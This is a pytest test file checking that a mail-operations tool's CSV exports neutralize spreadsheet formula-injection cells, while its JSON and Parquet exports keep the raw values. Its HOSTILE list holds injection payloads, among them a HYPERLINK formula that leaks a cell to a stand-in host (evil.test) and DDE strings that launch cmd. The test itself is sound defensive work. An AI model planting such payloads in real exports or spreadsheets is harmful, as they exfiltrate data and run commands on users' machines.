"""Safe exports: every CSV mailops writes neutralizes cells a spreadsheet would run;
JSON and Parquet keep the raw value (issue 13, R2 exports)."""

from __future__ import annotations

import csv
import io
import json
from datetime import datetime

import pandas as pd
import pytest
from sync_support import add_customer, append, make_msg

from mailops.cli import main
from mailops.exports import neutralize, safe_frame, to_csv, write_csv
from mailops.reports import audit as report_audit

HOSTILE = [
    '=HYPERLINK("http://evil.test/?leak="&A2,"click")',
    "@SUM(A1:A9)",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        *[(v, "'" + v) for v in HOSTILE],
        ("Offer for B-204", "Offer for B-204"),
        ("-5", "-5"),
        ("+49 30 1234", "'+49 30 1234"),
        ("+4930", "+4930"),
        ("-1.5e3", "-1.5e3"),
        ("", ""),
        (None, None),
        (42, 42),
        ("a=b", "a=b"),
    ],
)
def test_neutralize(value, expected) -> None:
    assert neutralize(value) == expected


def test_safe_frame_keeps_types_and_joins_lists() -> None:
    df = pd.DataFrame(
        {
            "subject": ["=1+1", "fine"],
            "n": [-1, 2],
            "at": [datetime(2026, 1, 1), datetime(2026, 1, 2)],
            "customers": [["c-1", "c-2"], []],
            "flag": [True, False],
        }
    )
    out = safe_frame(df)
    assert out["subject"].tolist() == ["'=1+1", "fine"]
    assert out["n"].tolist() == [-1, 2] and out["at"].equals(df["at"])
    assert out["customers"].tolist() == ["c-1;c-2", ""]
    assert df["subject"][0] == "=1+1"  # the frame itself is left alone
    rows = list(csv.reader(io.StringIO(to_csv(df, sep="\t")), delimiter="\t"))
    assert rows[1][0] == "'=1+1"


def test_report_export_csv_neutralized_parquet_raw(tmp_path) -> None:
    df = pd.DataFrame({"subject": HOSTILE, "count": range(len(HOSTILE))})
    csv_path, parquet_path = report_audit.export(df, tmp_path / "r", "ledger")
    got = pd.read_csv(csv_path, keep_default_na=False)
    assert all(not str(v).startswith(("=", "+", "-", "@", "\t", "\r")) for v in got["subject"])
    assert got["subject"].tolist() == ["'" + v for v in HOSTILE]
    assert pd.read_parquet(parquet_path)["subject"].tolist() == HOSTILE
    # write_csv is the same rule
    assert pd.read_csv(write_csv(df, tmp_path / "x.csv"))["subject"][1] == "'@SUM(A1:A9)"


@pytest.mark.server
def test_audit_csv_of_hostile_subjects_neutralized_json_and_parquet_raw(
    store, settings, password_mailbox, mailserver, capsys, tmp_path
) -> None:
    mb, pw = password_mailbox()
    add_customer(store, "c-a", "a@cust.test", name="@Evil Corp")
    subjects = HOSTILE[:4]  # a header cannot start with a tab or CR
    append(
        mailserver,
        mb.address,
        pw,
        [make_msg("a@cust.test", mb.address, subject=s) for s in subjects],
    )
    store.close()
    assert main(["sync", "--all"]) == 0
    files = {k: tmp_path / f"ledger.{k}" for k in ("csv", "json", "parquet")}
    for path in files.values():
        assert main(["audit", "--output", str(path)]) == 0
    capsys.readouterr()
    with files["csv"].open(newline="") as f:
        rows = list(csv.DictReader(f))
    assert sorted(r["subject"] for r in rows) == sorted("'" + s for s in subjects)
    for row in rows:
        for cell in row.values():
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
            assert not cell.startswith("-") or cell.lstrip("-").replace(".", "").isdigit(), cell
    assert sorted(r["subject"] for r in json.loads(files["json"].read_text())) == sorted(subjects)
    assert sorted(pd.read_parquet(files["parquet"])["subject"]) == sorted(subjects)

    # the listing commands' --csv too
    assert main(["stats", "activity", "--by", "customer", "--days", "0", "--csv"]) == 0
    out = capsys.readouterr().out
    assert "@Evil Corp" in out
    assert not any(c.startswith("@") for r in csv.reader(io.StringIO(out)) for c in r)
